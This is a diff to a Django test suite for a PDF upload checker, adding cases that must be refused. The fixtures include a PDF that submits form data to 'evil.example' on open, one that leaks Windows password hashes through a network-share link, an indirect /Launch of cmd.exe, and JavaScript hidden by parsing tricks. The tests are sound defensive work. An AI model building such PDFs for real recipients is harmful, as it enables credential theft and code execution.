@@ -14,7 +14,7 @@ from django.utils import translation
 from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
-from okence.exchange import checks, services
+from okence.exchange import checks, pdf_checks, services
 from okence.exchange.checks import Refused
 from okence.exchange.models import FileEvent, SharedFile
 from okence.exchange.tests.conftest import (
@@ -1163,6 +1163,56 @@ JS = TextStringObject("app.alert('x')")
             SCRIPTS,
             "key /JS",
         ),
+        # Sending the form's fields to a server when the document opens.
+        (
+            lambda: pdf_with(
+                open_action(action("/SubmitForm", F=TextStringObject("https://evil.example/")))
+            ),
+            SCRIPTS,
+            "action /SubmitForm",
+        ),
+        # Opening a file on a network share: Windows sends the official's password hash there.
+        (
+            lambda: pdf_with(
+                open_action(action("/GoToR", F=TextStringObject("\\\\evil.example\\x.pdf")))
+            ),
+            SCRIPTS,
+            "action /GoToR",
+        ),
+        # The kind of action by reference: /S 4 0 R, and object 4 is the name /Launch.
+        (
+            lambda: raw_pdf(
+                b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S 4 0 R/F(cmd.exe)>>>>",
+                PAGES,
+                PAGE,
+                b"/Launch",
+            ),
+            SCRIPTS,
+            "action /Launch",
+        ),
+        # Brackets inside a string, a hexadecimal string and a comment before the script: the
+        # dictionary is read to its real end, not to the first ">>" in the bytes.
+        (
+            lambda: raw_pdf(
+                b"<</Type/Catalog/Pages 2 0 R/Title(a >> \\) ] \\( (b) >>)/Id<3e3e5d>%>>]\n"
+                b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
+                PAGES,
+                PAGE,
+            ),
+            SCRIPTS,
+            "key /JS",
+        ),
+        # A stream's dictionary is looked at, though its data is not read.
+        (
+            lambda: raw_pdf(
+                b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>",
+                PAGES,
+                PAGE,
+                b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
+            ),
+            ATTACHMENTS,
+            "key /EmbeddedFiles",
+        ),
     ],
     ids=[
         "open action js",
@@ -1175,6 +1225,11 @@ JS = TextStringObject("app.alert('x')")
         "escaped names",
         "indirect launch",
         "object stream",
+        "submit form",
+        "remote file",
+        "action kind by reference",
+        "brackets in strings",
+        "stream dictionary",
     ],
 )
 def test_pdf_active_content_by_any_route_is_refused(tmp_path, make, message, detail):
@@ -1197,6 +1252,64 @@ def test_pdfs_with_links_and_an_opening_view_are_accepted(tmp_path):
     # The object-stream PDF itself is accepted when what it hides is harmless.
     harmless = object_stream_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>")
     assert verify(tmp_path, harmless, "vloga.pdf") == "application/pdf"
+
+
+def big_stream_pdf(data: bytes) -> bytes:
+    """One page whose content stream is ``data``, as a scanner or a large drawing makes it."""
+    return raw_pdf(
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        PAGES,
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
+        b"<</Length %d>>\nstream\n%s\nendstream" % (len(data), data),
+    )
+
+
+class CountingFile(io.FileIO):
+    """A file that counts the bytes read from it."""
+
+    read_bytes = 0
+
+    def readinto(self, buffer):
+        count = super().readinto(buffer)
+        CountingFile.read_bytes += count or 0
+        return count
+
+    def readall(self):
+        data = super().readall()
+        CountingFile.read_bytes += len(data)
+        return data
+
+
+def test_a_large_pdf_is_checked_without_reading_its_streams(tmp_path, monkeypatch):
+    """The bug: scanning every byte of the file for names, so that a big scan takes seconds
+    (and, holding "/JS" or "#" by chance, has every object read whole). Only the dictionaries
+    are read, even when the stream's bytes spell the names looked for."""
+    noise = (b"/JS /Launch /J#53 #41 <</S/JavaScript/JS(x)>> (" + bytes(range(256))) * 4096
+    data = big_stream_pdf(noise * 8)  # 8 MiB of content that names everything looked for
+    path = tmp_path / "sken.pdf"
+    path.write_bytes(data)
+    CountingFile.read_bytes = 0
+    monkeypatch.setattr(
+        pdf_checks, "open", lambda name, mode: io.BufferedReader(CountingFile(name)), raising=False
+    )
+    pdf_checks.check_pdf(str(path))
+    assert len(data) > 8 * 1024 * 1024
+    assert CountingFile.read_bytes < 1024 * 1024
+
+
+def test_a_dictionary_longer_than_the_bound_is_still_read_whole(tmp_path, monkeypatch):
+    """Past MAX_HEAD the check falls back to pypdf's own reading, which still finds the script
+    (the bug: taking an unfinished dictionary for a harmless one)."""
+    monkeypatch.setattr(pdf_checks, "HEAD_CHUNK", 1024)
+    monkeypatch.setattr(pdf_checks, "MAX_HEAD", 4096)
+    padding = b"(" + b"a" * 10_000 + b")"
+    data = raw_pdf(
+        b"<</Type/Catalog/Pages 2 0 R/Pad %s/OpenAction<</S/JavaScript/JS(x)>>>>" % padding,
+        PAGES,
+        PAGE,
+    )
+    refused = refusal(tmp_path, data, "vloga.pdf")
+    assert (str(refused.message), refused.detail) == (SCRIPTS, "key /JS")
 
 
 def test_a_pdf_stream_that_unpacks_past_the_limit_is_refused(tmp_path, settings):
